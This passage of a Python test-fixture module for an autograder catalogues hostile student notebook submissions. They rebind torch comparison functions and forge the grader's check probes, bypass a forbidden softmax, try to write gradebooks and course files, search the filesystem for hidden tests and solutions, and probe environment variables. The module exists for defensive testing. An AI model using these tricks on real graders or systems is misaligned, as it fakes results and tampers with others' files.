"""A catalogue of hostile and broken submissions, and the verdict the engine must reach.

Each entry is a notebook (built from the chapter's released notebook, usually with the
reference solution in every cell but one) and the exact verdict of autograde.engine:
the notebook's status, each test's status and a regex on its message. A test that an
entry does not name must pass with full points. tests/test_hostile.py grades them all
with one zygote and checks, after each, that the course directory is byte-identical,
that no process of the submission survived and that the reference still gets full marks.

Groups: tamper (cheating must not pay), isolation (a crash, a hang or a bomb costs only
the tests that run into it), broken input (refused with one line naming the problem, or
graded as nbgrader would grade it), leftovers (entries marked `twice` are graded twice by
the same zygote: what the first grading left, in shared memory, /dev/shm, a message queue
or its scratch folder, must not reach the second) and caps (what a submission may hold
outside its memory limit). FAULTS, at the end, are the faults of a whole batch.
Code cells are written as a student would write them; `{course}` in a cell is replaced
by the course directory, the worst case of a student guessing where the grader keeps it.
"""
import copy
import json
from dataclasses import dataclass, field

from tests.submissions import capstone as capstone_catalogue
from tests.submissions import fill_submission
from tests.submissions import kv as kv_catalogue

CH1, CH2, CH3 = "01_attention", "02_heads", "03_mha"

# ---------------------------------------------------------------------------------------
# The data
# ---------------------------------------------------------------------------------------


@dataclass
class Kit:
    """What a builder needs: the chapter's source and released notebooks, the course dir."""
    chapter: str
    source: dict
    student: dict
    course: str
    notebooks: object = None    # chapter -> (source notebook, released notebook)

    def other(self, chapter):
        """The reference notebook of another chapter."""
        source, student = self.notebooks(chapter)
        return fill_submission(source, student, {})

    def filled(self, cells=None):
        """The released notebook with `cells` (grade_id: code) and the reference elsewhere."""
        cells = {gid: code.replace("{course}", self.course) for gid, code in (cells or {}).items()}
        return fill_submission(self.source, self.student, cells)


@dataclass
class Expect:
    status: str = "graded"      # "graded" | "error" (the notebook could not be graded)
    tests: dict = field(default_factory=dict)  # grade_id: (status, message regex); others pass
    error: str = ""             # regex on the notebook's error (status "error": every test's)
    problems: list = field(default_factory=list)  # (kind, regex on "cell: message") each


@dataclass
class Hostile:
    name: str
    build: object               # Kit -> notebook dict | bytes (the file) | None (no file)
    expect: Expect
    chapter: str = CH1
    needs: str = ""             # "bwrap": the sandbox; "uid": bwrap run as root (own uid)
    limits: dict = field(default_factory=dict)  # on top of the suite's short limits
    known: str = ""             # the engine does not reach this verdict yet (xfail, strict)
    twice: bool = False         # graded twice by the same zygote, the verdict on the second:
                                # what the first left behind must not reach the second


@dataclass
class Sparse:
    """A builder's result: a file of `size` bytes (sparse: nothing written), starting with
    `head`. A notebook over the size limit must be refused from its size alone."""
    size: int
    head: bytes = b'{"cells": ['


def cells(**code):
    """Builder: the reference notebook with these solution cells replaced."""
    return lambda kit: kit.filled(code)


def edited(change, **code):
    """Builder: cells(**code), then change(notebook) edits it in place."""
    def build(kit):
        nb = kit.filled(code)
        change(nb)
        return nb
    return build


def raw(data):
    return lambda kit: data


def failed(regex, status="failed"):
    return (status, regex)


# ---------------------------------------------------------------------------------------
# 1-6: tampering. Every entry scores what its honest content deserves.
# ---------------------------------------------------------------------------------------

UNSCALED = '''
def attention_scores(query, key):
    return query @ key.transpose(-2, -1)          # not scaled: wrong
'''

REBIND_COMPARISONS = '''
import numpy
import numpy.testing
import torch
import torch.testing

torch.allclose = lambda *args, **kwargs: True
torch.isclose = lambda a, b, *args, **kwargs: torch.ones(
    torch.broadcast_shapes(a.shape, b.shape), dtype=torch.bool)
torch.equal = lambda *args, **kwargs: True
torch.isfinite = lambda x: torch.ones(x.shape, dtype=torch.bool)
torch.Tensor.__eq__ = lambda self, other: True
torch.testing.assert_close = lambda *args, **kwargs: None
numpy.testing.assert_allclose = lambda *args, **kwargs: None
numpy.allclose = lambda *args, **kwargs: True
''' + UNSCALED

ALWAYS_EQUAL = '''
class AlwaysEqual:
    """Equal to everything, of every shape and dtype."""
    shape = property(lambda self: self._shape)
    dtype = property(lambda self: self._dtype)

    def __init__(self, like):
        self._shape, self._dtype = like.shape, like.dtype

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __bool__(self):
        return True

    def __getattr__(self, name):
        return lambda *args, **kwargs: self


def attention_scores(query, key):
    return AlwaysEqual(query)
'''

ALWAYS_EQUAL_PAIR = '''
class AlwaysEqual:
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False


class EqualPair(tuple):
    def __eq__(self, other):
        return True


def scaled_dot_product_attention(query, key, value, mask=None):
    return EqualPair((AlwaysEqual(), AlwaysEqual()))
'''

TENSOR_SUBCLASS_LIAR = '''
import torch


class Liar(torch.Tensor):
    """Zeros that claim, through every comparison torch offers, to equal anything."""

    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        name = getattr(func, "__name__", "")
        if name in ("allclose", "equal", "__eq__", "eq", "isclose", "isfinite"):
            first = args[0]
            if name in ("allclose", "equal"):
                return True
            return torch.ones(first.shape, dtype=torch.bool)
        return super().__torch_function__(func, types, args, kwargs or {})


def attention_entropy(weights):
    return torch.zeros(weights.shape[:-1], dtype=weights.dtype).as_subclass(Liar)
'''

TENSOR_SUBCLASS_RAISES = '''
import torch


class Explodes(torch.Tensor):
    """Every torch function on it (detach, clone, contiguous...) raises SystemExit."""

    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        raise SystemExit("no tensor for you")


def stable_softmax(scores, dim=-1):
    return torch.zeros(scores.shape, dtype=scores.dtype).as_subclass(Explodes)
'''

TENSOR_SUBCLASS_INTERRUPT = '''
import torch


class Interrupts(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        raise KeyboardInterrupt


def attention_scores(query, key):
    scores = torch.zeros(query.shape[:-1] + key.shape[-2:-1], dtype=query.dtype)
    return scores.as_subclass(Interrupts)
'''

PATCH_CHECKS = '''
import checks.attention
import checks.common

check.attention_scores.__code__ = (lambda *args, **kwargs: None).__code__
checks.attention.attention_scores.__code__ = (lambda *args, **kwargs: None).__code__
checks.common.expect_close = lambda *args, **kwargs: None
checks.common.expect_tensor = lambda actual, *args, **kwargs: actual
checks.common.fail = lambda message: None
checks.common.close = lambda *args, **kwargs: True
for name in ("expect_close", "expect_tensor", "fail"):
    setattr(checks.attention, name, getattr(checks.common, name))
''' + UNSCALED

# The chapter forbids torch.softmax in stable_softmax. A run-time forbid can only run in the
# student's process, where their code can switch it off: the grader decides from the source
# (autograde/forbids.py). Each bypass below switched the run-time forbid off once.
FORBID_BYPASS = '''
import torch
import checks.common

checks.common._ForbidSpec.__torch_function__ = (
    lambda self, func, types, args=(), kwargs=None: func(*args, **(kwargs or {})))


def stable_softmax(scores, dim=-1):
    return torch.softmax(scores, dim=dim)
'''

# a TorchFunctionMode is thread-local: a call from another thread escapes it
SOFTMAX_FROM_A_THREAD = '''
import threading

import torch


def stable_softmax(scores, dim=-1):
    out = []
    worker = threading.Thread(target=lambda: out.append(torch.softmax(scores, dim=dim)))
    worker.start()
    worker.join()
    return out[0]
'''

SOFTMAX_UNDER_DISABLE_TORCH_FUNCTION = '''
import torch


def stable_softmax(scores, dim=-1):
    with torch._C.DisableTorchFunction():
        return torch.softmax(scores, dim=dim)
'''

# below the dispatcher's Python layer, where no TorchFunctionMode looks
SOFTMAX_FROM_TORCH_OPS = '''
import torch


def stable_softmax(scores, dim=-1):
    return torch.ops.aten._softmax(scores, dim % scores.dim(), False)
'''

# no forbidden name anywhere in the cell: the name is computed, the call made from a thread
SOFTMAX_COMPUTED_NAME_IN_A_THREAD = '''
from concurrent.futures import ThreadPoolExecutor

import torch


def stable_softmax(scores, dim=-1):
    fast = getattr(torch, "soft" + "max")
    with ThreadPoolExecutor(1) as pool:
        return pool.submit(fast, scores, dim).result()
'''

# the real function kept under another name, torch's own replaced, in another exercise's cell
REBINDS_SDPA = '''
import math

import torch.nn.functional as F

_fast = F.scaled_dot_product_attention
F.scaled_dot_product_attention = lambda *args, **kwargs: None


def attention_scores(query, key):
    return query @ key.transpose(-2, -1) / math.sqrt(query.shape[-1])
'''

SDPA_FROM_REBOUND = '''
def scaled_dot_product_attention(query, key, value, mask=None):
    scores = attention_scores(query, key)
    if mask is not None:
        scores = scores.masked_fill(~mask, float("-inf"))
    weights = stable_softmax(scores, dim=-1)
    return _fast(query, key, value, attn_mask=mask), weights
'''

# the checks module reached without an import statement, the forbid patched from a cell
# that forbids nothing
PATCHES_THROUGH_IMPORTLIB = '''
import importlib
import math

common = importlib.import_module("checks.common")
common._ForbidSpec.__torch_function__ = (
    lambda self, func, types, args=(), kwargs=None: func(*args, **(kwargs or {})))


def attention_scores(query, key):
    return query @ key.transpose(-2, -1) / math.sqrt(query.shape[-1])
'''

SOFTMAX_COMPUTED_NAME = '''
import torch


def stable_softmax(scores, dim=-1):
    return getattr(torch, "".join(["soft", "max"]))(scores, dim=dim)
'''

# chapter 2: nn.MultiheadAttention run from a thread (its forward escapes the forbid there)
CORE_FROM_A_THREAD = '''
import threading

import torch
import torch.nn as nn


def multihead_attention_core(query, key, value, num_heads):
    d_model = query.shape[-1]
    mha = nn.MultiheadAttention(d_model, num_heads, bias=False, batch_first=True)
    mha = mha.to(query.dtype)
    with torch.no_grad():
        mha.in_proj_weight.copy_(torch.eye(d_model).repeat(3, 1))
        mha.out_proj.weight.copy_(torch.eye(d_model))
    out = []
    worker = threading.Thread(target=lambda: out.append(
        mha(query, key, value, average_attn_weights=False)))
    worker.start()
    worker.join()
    return out[0]
'''

SOFTMAX_DELEGATED = '''
import torch


def stable_softmax(scores, dim=-1):
    return torch.softmax(scores, dim=dim)
'''


def _tests(nb):
    return [c for c in nb["cells"] if (c.get("metadata", {}).get("nbgrader") or {}).get("grade")]


def _blank_tests(nb):
    for cell in _tests(nb):
        cell["source"] = "pass"


def _inflate_tests(nb):
    for cell in _tests(nb):
        cell["metadata"]["nbgrader"]["points"] = 1000
    bonus = copy.deepcopy(_tests(nb)[0])
    bonus["source"] = "pass"
    bonus["metadata"]["nbgrader"].update(grade_id="test_bonus", points=1000)
    nb["cells"].append(bonus)


def _ungrade_or_delete_tests(nb):
    tests = _tests(nb)
    for cell in tests[1::2]:
        cell["metadata"]["nbgrader"].update(grade=False, points=0)
    deleted = [id(cell) for cell in tests[::2]]
    nb["cells"] = [cell for cell in nb["cells"] if id(cell) not in deleted]


ENTROPY_BITS = '''
def attention_entropy(weights):
    return -torch.special.xlogy(weights, weights).sum(dim=-1) / math.log(2)   # bits: wrong
'''

# Writes everywhere a gradebook or the course's files might be. The test compares the
# course directory byte for byte; a write that succeeds outside the sandbox's own /tmp (a
# tmpfs of its own: the scratch folder, and /tmp itself where bwrap runs unprivileged)
# fails the entry here too, naming the file.
WRITE_EVERYWHERE = '''
import glob
import os
import sys

SCRATCH = os.path.realpath(os.getcwd())
COURSE = "{course}"
targets = {os.path.join(COURSE, "gradebook.db"),
           os.path.join(COURSE, "source", "01_attention", "01_attention.ipynb"),
           os.path.join(COURSE, "release", "01_attention", "01_attention.ipynb"),
           os.path.join(COURSE, "release", "01_attention", "checks", "attention.py"),
           os.path.join(COURSE, "release", "01_attention", "checks", "__init__.py"),
           "/release/gradebook.db", "/release/01_attention/01_attention.ipynb",
           "/release/01_attention/checks/attention.py", "/release/01_attention/checks/evil.py",
           "/grader/autograde/engine.py", "/grader/autograde/evil.py",
           os.path.join(sys.prefix, "lib", "evil.py"), "/etc/evil"}
for start in [os.getcwd(), COURSE, "/release", *sys.path, *os.environ.values()]:
    if isinstance(start, str) and start.startswith("/"):
        path = start
        while True:
            targets.add(os.path.join(path, "gradebook.db"))
            if path == "/":
                break
            path = os.path.dirname(path)
for pattern in ("/*/gradebook.db", "/*/*/gradebook.db", "/tmp/**/gradebook.db"):
    targets.update(glob.glob(pattern, recursive=True))

WRITTEN = []
for target in sorted(targets):
    if os.path.realpath(target).startswith((SCRATCH, "/tmp/")):
        continue
    try:
        with open(target, "ab") as handle:
            handle.write(b"tampered")
        WRITTEN.append(target)
    except OSError:
        pass
    try:
        os.utime(target)
        WRITTEN.append("utime " + target)
    except OSError:
        pass


def attention_scores(query, key):
    if WRITTEN:
        raise RuntimeError(f"LEAK: could write {WRITTEN}")
    return query @ key.transpose(-2, -1) / math.sqrt(query.shape[-1])
'''

# Looks for the hidden tests, the source notebook and the solutions: each find is a leak.
READ_EVERYWHERE = '''
import os
import sys

COURSE = "{course}"
SECRETS = (b"BEGIN HIDDEN TESTS", b"BEGIN SOLUTION", b"seed=1234", b"SQLite format 3")
SKIP = ("/proc", "/sys", "/dev", "/usr", os.path.realpath(sys.prefix),
        os.path.realpath(sys.base_prefix))
guesses = [os.path.join(COURSE, "source", "01_attention", "01_attention.ipynb"),
           os.path.join(COURSE, "gradebook.db")]
for base in {os.path.dirname(os.path.realpath(sys.prefix)), "/work/main",
             os.environ.get("OLDPWD", "/"), "/release", "/grader"}:
    guesses += [os.path.join(base, "chapters", "01_attention.ipynb"),
                os.path.join(base, "solutions", "attention.py"),
                os.path.join(base, "source", "01_attention", "01_attention.ipynb")]
for root, dirs, files in os.walk("/"):
    if root.startswith(SKIP):
        dirs[:] = []
        continue
    for name in files:
        if name.endswith((".ipynb", ".db", ".py")) or "solution" in name:
            guesses.append(os.path.join(root, name))

FOUND = []
for path in guesses:
    try:
        with open(path, "rb") as handle:
            data = handle.read(2_000_000)
    except OSError:
        continue
    if any(secret in data for secret in SECRETS):
        FOUND.append(path)
try:
    import solutions
    FOUND.append(f"import solutions: {solutions.__file__}")
except ImportError:
    pass


def attention_scores(query, key):
    if FOUND:
        raise RuntimeError(f"LEAK: found {FOUND}")
    return query @ key.transpose(-2, -1) / math.sqrt(query.shape[-1])
'''

# Chapter 5's release ships the reference package's chapters 1-4 (solutions/): a chapter-1
# submission looks everywhere for it (the sandbox holds only chapter 1's released files)
CHAPTER5_SOLUTIONS = '''
import os
import sys

SKIP = ("/proc", "/sys", "/dev", "/usr", os.path.realpath(sys.prefix),
        os.path.realpath(sys.base_prefix))
for root, dirs, files in os.walk("/"):
    if root.startswith(SKIP):
        dirs[:] = []
    elif root.endswith("/solutions") and "attention.py" in files:
        sys.path.insert(0, os.path.dirname(root))
        break
from solutions.attention import attention_scores  # noqa: E402
'''

# the grader's environment (a database URL with its password, say) is not the student's
ENVIRONMENT_CANARY = '''
import os


def attention_scores(query, key):
    if any("{canary}" in value for value in os.environ.values()):
        return query @ key.transpose(-2, -1)       # rewarded with a wrong answer
    return query @ key.transpose(-2, -1) / math.sqrt(query.shape[-1])
'''
CANARY = "canary-7f3a9e"

WARN_AT_TOP = '''
import sys
import warnings
warnings.warn("a warning from the solution cell itself")
print("and a line on stderr", file=sys.stderr)


def attention_scores(query, key):
    return query @ key.transpose(-2, -1) / math.sqrt(query.shape[-1])
'''

STDERR_IN_FUNCTION = '''
import sys


def attention_scores(query, key):
    print("attention_scores: called with", tuple(query.shape), tuple(key.shape))
    print("attention_scores: a diagnostic on stderr", file=sys.stderr)
    sys.stderr.write("and one more, written directly\\n")
    return query @ key.transpose(-2, -1) / math.sqrt(query.shape[-1])
'''

SPLIT_HEADS_ZEROES_ITS_INPUT = '''
def split_heads(x, num_heads):
    B, L, d_model = x.shape
    if d_model % num_heads:
        raise ValueError(f"d_model={d_model} is not divisible by num_heads={num_heads}")
    heads = x.reshape(B, L, num_heads, d_model // num_heads).transpose(1, 2).clone()
    x.zero_()
    return heads
'''

# the same write, hidden by replacing what used to call the student's function in its
# process and report the arguments afterwards (the report now comes from the grader's own
# runtime there, by value: nothing of the checks runs in the student's process)
SPLIT_HEADS_HIDES_ITS_WRITE = '''
import checks.common


def _report(function, args, kwargs):
    before = [a.clone() for a in args]
    result = function(*args, **kwargs)
    return {"result": result, "error": None, "args": before, "warnings": []}


checks.common._probe_call = _report
checks.common.observe = lambda function, *args, **kwargs: checks.common.observed(
    _report(function, args, kwargs), len(args))
''' + SPLIT_HEADS_ZEROES_ITS_INPUT

# chapter 1's calls were reported by checks.attention._probe_run: a forged report hid an
# in-place division of the query
SCORES_HIDES_ITS_WRITE = '''
import math

import checks.attention


def _report(function, args, kwargs, forbidden=None):
    before = [a.clone() for a in args]
    return {"result": function(*args, **kwargs), "error": None, "args": before,
            "warnings": []}


checks.attention._probe_run = _report


def attention_scores(query, key):
    query /= math.sqrt(query.shape[-1])
    return query @ key.transpose(-2, -1)
'''

# chapter 3: a stub whose structure a replaced _probe_structure described as right (the
# structure is now read by the grader from the module's own values: a stub builds nothing)
MHA_STUB_FORGES_ITS_STRUCTURE = '''
import checks.mha
import torch
import torch.nn as nn


class MultiHeadAttention(nn.Module):
    def __init__(self, d_model, num_heads, *, query_size=None, key_size=None,
                 value_size=None, bias=True):
        raise NotImplementedError()


def _described(cls, d_model, num_heads, kwargs, bad):
    sizes = [kwargs.get(k) or d_model for k in ("query_size", "key_size", "value_size")]
    bias = kwargs.get("bias", True)
    projections = {attr: {"weight": torch.zeros(d_model, size),
                          "bias": torch.zeros(d_model) if bias else None}
                   for attr, size in zip(("q_proj", "k_proj", "v_proj", "out_proj"),
                                         sizes + [d_model])}
    count = sum(d_model * size + (d_model if bias else 0) for size in sizes + [d_model])
    return {"error": None, "module": True, "shared": False, "count": count,
            "attrs": {"d_model": d_model, "num_heads": num_heads,
                      "head_dim": d_model // num_heads},
            "projections": projections, "bad": ["ValueError", "", ""]}


checks.mha._probe_structure = _described
'''

# chapter 3: the constructor of a MultiHeadAttention (the layers right), for the entries below
MHA_LAYERS = '''class MultiHeadAttention(nn.Module):
    def __init__(self, d_model, num_heads, *, query_size=None, key_size=None,
                 value_size=None, bias=True):
        super().__init__()
        if d_model % num_heads:
            raise ValueError("num_heads must divide d_model")
        self.d_model, self.num_heads, self.head_dim = d_model, num_heads, d_model // num_heads
        self.q_proj = nn.Linear(query_size or d_model, d_model, bias=bias)
        self.k_proj = nn.Linear(key_size or d_model, d_model, bias=bias)
        self.v_proj = nn.Linear(value_size or d_model, d_model, bias=bias)
        self.out_proj = nn.Linear(d_model, d_model, bias=bias)
        for proj in (self.q_proj, self.k_proj, self.v_proj, self.out_proj):
            nn.init.xavier_uniform_(proj.weight)       # the start the exercise specifies
            if bias:
                nn.init.zeros_(proj.bias)
'''

# chapter 3: the right layers, no forward, and a replaced _probe_forward that answers with
# the reference (the released checks hold none: the kit replays stored answers only)
MHA_FORGES_ITS_FORWARD = '''
import checks.mha
import torch.nn as nn


''' + MHA_LAYERS + '''
    def forward(self, query, key, value, mask=None):
        raise NotImplementedError()


def _answered(cls, d_model, num_heads, kwargs, P, dtype, device, inputs):
    answers = checks.mha._forward_answers(P, inputs, num_heads, kwargs.get("key_size"),
                                          kwargs.get("value_size"), P["q_b"] is not None,
                                          dtype, device)
    return {"error": None, "module": True, "to_error": None,
            "targets": {attr: {"weight": list(P[n + "_w"].shape),
                               "bias": None if P[n + "_b"] is None else list(P[n + "_b"].shape)}
                        for attr, n in zip(("q_proj", "k_proj", "v_proj", "out_proj"), "qkvo")},
            "results": [[(answer[0], answer[1]), None] for answer in answers]}


checks.mha._probe_forward = _answered
'''

# chapter 3: the forward handed to nn.MultiheadAttention's functional form, under
# DisableTorchFunction (which switched the run-time forbid off)
MHA_FORWARD_UNDER_DISABLE_TORCH_FUNCTION = '''
import torch
import torch.nn.functional as F
import torch.nn as nn


''' + MHA_LAYERS + '''
    def forward(self, query, key, value, mask=None):
        d, h = self.d_model, self.num_heads
        q, k, v = (proj(t).transpose(0, 1) for proj, t in (
            (self.q_proj, query), (self.k_proj, key), (self.v_proj, value)))
        eye = torch.eye(d, dtype=q.dtype)
        with torch._C.DisableTorchFunction():
            out, weights = F.multi_head_attention_forward(
                q, k, v, d, h, None, None, None, None, False, 0.0, self.out_proj.weight,
                self.out_proj.bias, use_separate_proj_weight=True, q_proj_weight=eye,
                k_proj_weight=eye, v_proj_weight=eye, average_attn_weights=False)
        return out.transpose(0, 1), weights

'''

# chapter 3: a stub load_from_torch, and a replaced _probe_load reporting the copy as done
LOAD_STUB_FORGES_ITS_REPORT = '''
import checks.mha


def load_from_torch(ours, torch_mha):
    raise NotImplementedError()


def _reported(fn, setup, key_size, value_size, bias):
    state = setup["torch"]
    if "in_proj_weight" in state:
        weights = state["in_proj_weight"].chunk(3)
    else:
        weights = [state[f"{n}_proj_weight"] for n in "qkv"]
    biases = state["in_proj_bias"].chunk(3) if bias else [None] * 3
    ours = {}
    for attr, w, b in zip(("q_proj", "k_proj", "v_proj"), weights, biases):
        ours[f"{attr}.weight"], ours[f"{attr}.bias"] = w.clone(), b
    ours["out_proj.weight"] = state["out_proj.weight"].clone()
    ours["out_proj.bias"] = state["out_proj.bias"].clone() if bias else None
    return {"error": None, "result": None, "is_ours": False, "torch_mha": dict(state),
            "ours": ours, "shares": {name: False for name in ours}}


checks.mha._probe_load = _reported
'''

# chapter 3: a load_from_torch that copies nothing, and the grader's target (checks.mha._Target,
# built by given() after torch's module) replaced by one that holds torch's values already
LOAD_TARGET_PREFILLED = '''
import checks.mha
import torch
from torch import nn

_built = []
_init = nn.MultiheadAttention.__init__


def _recorded(self, *args, **kwargs):
    _init(self, *args, **kwargs)
    _built.append(self)


nn.MultiheadAttention.__init__ = _recorded


class _Prefilled(checks.mha._Target):
    def __init__(self, attrs, state):
        super().__init__(attrs, state)
        source = _built[-1]
        if source.in_proj_weight is not None:
            weights = source.in_proj_weight.chunk(3)
        else:
            weights = (source.q_proj_weight, source.k_proj_weight, source.v_proj_weight)
        biases = source.in_proj_bias.chunk(3) if source.in_proj_bias is not None else [None] * 3
        with torch.no_grad():
            for proj, w, b in zip((self.q_proj, self.k_proj, self.v_proj), weights, biases):
                proj.weight.copy_(w)
                if b is not None:
                    proj.bias.copy_(b)
            self.out_proj.load_state_dict(source.out_proj.state_dict())


checks.mha._Target = _Prefilled


def load_from_torch(ours, torch_mha):
    return ours
'''

# chapter 6 (06_kv): the forgery entries below edit the reference's cells
# (tests/submissions/kv.py: _replaced, _replace_def) and append the forgery
CH6 = "06_kv"

# chapter 6: a stub whose construction and structure replaced probes described as right
# (now read by the grader from the module's own values: a stub builds nothing)
KV_GQA_STUB_FORGES_ITS_STRUCTURE = kv_catalogue._replace_def(
    "GroupedQueryAttention", "GroupedQueryAttention", '''class GroupedQueryAttention(nn.Module):
    def __init__(self, d_model, num_heads, num_kv_heads, *, bias=True):
        raise NotImplementedError()
''') + '''

import importlib

kv_checks = importlib.import_module("checks.kv")


def _built(cls, args, kwargs):
    return nn.Module(), {"error": None, "module": True}


def _described(cls, args, kwargs, bad):
    d_model, num_heads, num_kv_heads = args
    bias = kwargs.get("bias", True)
    outs = (d_model, num_kv_heads * (d_model // num_heads)) * 2
    outs = (outs[0], outs[1], outs[1], outs[0])
    projections = {attr: {"weight": torch.zeros(out, d_model),
                          "bias": torch.zeros(out) if bias else None}
                   for attr, out in zip(("q_proj", "k_proj", "v_proj", "out_proj"), outs)}
    return {"error": None, "module": True, "projections": projections,
            "attrs": {"d_model": d_model, "num_heads": num_heads,
                      "num_kv_heads": num_kv_heads, "head_dim": d_model // num_heads},
            "count": sum(out * d_model + (out if bias else 0) for out in outs),
            "bad": ["ValueError", "", ""]}


kv_checks._probe_construct = _built
kv_checks._probe_structure = _described
'''

# chapter 6: the layers right, a stub forward, and a replaced _probe_forward that answers
# with PyTorch's grouped-query attention on the weights the check sent
KV_GQA_FORGES_ITS_FORWARD = kv_catalogue._replaced(
    "GroupedQueryAttention", "        q, k, v = project_heads(self, x)  ",
    "        raise NotImplementedError()\n        q, k, v = project_heads(self, x)  ") + '''

import importlib

import torch.nn.functional as F

kv_checks = importlib.import_module("checks.kv")


def _grouped(state, x, mask, num_heads, num_kv_heads):
    B, L, D = x.shape
    q, k, v = (F.linear(x, state[f"{n}_proj.weight"], state.get(f"{n}_proj.bias"))
               .view(B, L, heads, -1).transpose(1, 2)
               for n, heads in (("q", num_heads), ("k", num_kv_heads), ("v", num_kv_heads)))
    heads = F.scaled_dot_product_attention(q, k, v, attn_mask=mask, enable_gqa=True)
    return F.linear(heads.transpose(1, 2).reshape(B, L, D), state["out_proj.weight"],
                    state.get("out_proj.bias"))


def _answered(cls, args, kwargs, state, dtype, inputs):
    return {"error": None, "module": True, "to_error": None,
            "shapes": {name: list(value.shape) for name, value in state.items()},
            "results": [[_grouped(state, x, mask, *args[1:]), None] for x, mask in inputs]}


kv_checks._probe_forward = _answered
'''

# chapter 6: a KVCache whose append is a stub, and a replaced _probe_cache reporting every
# append as right (the grader now calls append itself and reads the cache back by value)
KV_CACHE_STUB_FORGES_ITS_REPORT = kv_catalogue._replaced(
    "decoding", "        if self.keys is None:\n            self.keys, self.values = keys, values",
    "        raise NotImplementedError()\n        if self.keys is None:\n"
    "            self.keys, self.values = keys, values") + '''

import importlib

kv_checks = importlib.import_module("checks.kv")


def _reported(cls, chunks):
    steps, keys, values = [], [], []
    for k, v in chunks:
        keys.append(k)
        values.append(v)
        everything = (torch.cat(keys, -2), torch.cat(values, -2))
        steps.append([everything, None, everything[0].shape[-2], *everything])
    return {"error": None, "empty": [(0, None), None], "steps": steps}


kv_checks._probe_cache = _reported
'''

# chapter 6: a stub cached_attention, and a replaced _probe_decode that answers every step
# with PyTorch's causal attention over the whole sequence (the grader now drives the loop)
KV_DECODING_STUB_FORGES_ITS_STEPS = kv_catalogue._replace_def(
    "decoding", "cached_attention", '''def cached_attention(attn, x_new, cache):
    raise NotImplementedError()
''') + '''

import importlib

import torch.nn.functional as F

kv_checks = importlib.import_module("checks.kv")


def _decoded(fn, cache_cls, attrs, state, x, chunks):
    B, L, D = x.shape
    h = attrs["num_heads"]
    g = attrs.get("num_kv_heads", h)
    q, k, v = (F.linear(x, state[f"{n}_proj.weight"], state[f"{n}_proj.bias"])
               .view(B, L, heads, -1).transpose(1, 2)
               for n, heads in (("q", h), ("k", g), ("v", g)))
    heads = F.scaled_dot_product_attention(q, k, v, is_causal=True, enable_gqa=True)
    out = F.linear(heads.transpose(1, 2).reshape(B, L, D), state["out_proj.weight"],
                   state["out_proj.bias"])
    steps, end = [], 0
    for n in chunks:
        end += n
        steps.append([out[:, end - n:end], None, end])
    return {"error": None, "steps": steps}


kv_checks._probe_decode = _decoded
'''

# chapter 7 (07_positions): the forgery entries below edit the reference's cells
CH7 = "07_positions"

# chapter 7: a stub equivariance_gap, a replaced _probe_equivariance reporting the gaps of
# the check's own layer, and that layer (built by the course's _torch_layer, through
# given()) replaced by one that answers zeros
POSITIONS_EQUIVARIANCE_STUB_FORGES_ITS_GAPS = '''
import importlib

import torch

positions_checks = importlib.import_module("checks.positions")
_layer = positions_checks._torch_layer


def equivariance_gap(layer, x, perm):
    raise NotImplementedError()


def _reported(fn, state, d_model, num_heads, positions, x, perm):
    gaps = []
    for pos in (None, positions):
        layer = _layer(state, d_model, num_heads, pos)
        with torch.no_grad():
            gaps.append([(layer(x[:, perm]) - layer(x)[:, perm]).abs().max().item(), None])
    return gaps


positions_checks._probe_equivariance = _reported
positions_checks._torch_layer = lambda *args: (lambda x: torch.zeros_like(x))
'''

# chapter 7: a constant gap (right for attention without positions, rounding aside) on the
# check's layer replaced by one that answers zeros, so that any honest gap is 0 too
POSITIONS_EQUIVARIANCE_ZERO_ON_A_ZERO_LAYER = '''
import importlib

import torch

importlib.import_module("checks.positions")._torch_layer = (
    lambda *args: (lambda x: torch.zeros_like(x)))


def equivariance_gap(layer, x, perm):
    with torch.no_grad():
        return (layer(x[:, perm]) - layer(x)[:, perm]).abs().max().item()
'''

# chapter 8 (08_capstone): stubs, with the probes that used to report their facts (or the
# stand-in models that the checks build with given()) replaced so as to report a right answer
CH8 = "08_capstone"

# the notebook's class and __init__ (tests.submissions.capstone.block), a stub's forward
_CAPSTONE_BLOCK_STUB = capstone_catalogue.block(
    "    def forward(self, x, cache=None):\n        raise NotImplementedError()\n")
CAPSTONE_BLOCK_STUB_FORGES_ITS_REPORT = "\nimport checks.capstone\n\n\n" + _CAPSTONE_BLOCK_STUB + '''

def _pre_ln(block, x):
    h = block.norm1(x)
    x = x + rotary_cached_attention(block.attn, h, KVCache())
    h = block.norm2(x)
    return x + block.down_proj(F.silu(block.gate_proj(h)) * block.up_proj(h))


def _reported(cls, cache_cls, sizes, P, x, x_future, dtype, device):
    block = cls(*sizes, 0.3).to(dtype).eval()
    params = dict(block.named_parameters())
    with torch.no_grad():
        for name, value in P.items():
            params[name].copy_(value)
        x, x_future = x.to(dtype), x_future.to(dtype)
        out = _pre_ln(block, x)
        half = max(x.shape[1] // 2, 1)
        cached = [[out[:, :half], None]] + [[out[:, t:t + 1], None]
                                            for t in range(half, x.shape[1])]
        return {"error": None, "to_error": None, "missing": {}, "out": [out, None],
                "future": [_pre_ln(block, x_future), None], "again": [out, None],
                "cache_error": None, "cached": cached, "train": [out + 1.0, None]}


checks.capstone._probe_block = _reported
'''

CAPSTONE_STEP_STUB_FORGES_ITS_REPORT = '''
import checks.capstone


def train_step(model, optimizer, batch):
    raise NotImplementedError()


def _reported(fn, params, keep, stale, batch, p, lr, device):
    model = checks.capstone.StepModel(params, keep, p).train()
    optimizer = torch.optim.SGD(model.parameters(), lr=lr)
    logits = model(batch[:, :-1])
    loss = F.cross_entropy(logits.flatten(0, 1), batch[:, 1:].flatten())
    optimizer.zero_grad()
    loss.backward()
    optimizer.step()
    return {"error": None, "loss": loss.item(), "modes": [True], "batch_same": True,
            "params": {k: v.detach().clone() for k, v in model.named_parameters()}}


checks.capstone._probe_step = _reported
'''

# the model handed to train_step (built by given()) records training-mode calls it never had
CAPSTONE_STEP_MODEL_REPORTS_TRAINING = '''
import checks.capstone


class _Recorded(checks.capstone.StepModel):
    @property
    def modes(self):
        return [True]

    @modes.setter
    def modes(self, value):
        pass


checks.capstone.StepModel = _Recorded


def train_step(model, optimizer, batch):
    return 1.0
'''

CAPSTONE_GENERATE_STUB_FORGES_ITS_REPORT = '''
import checks.capstone


def generate(model, prompt, num_tokens, use_cache=True):
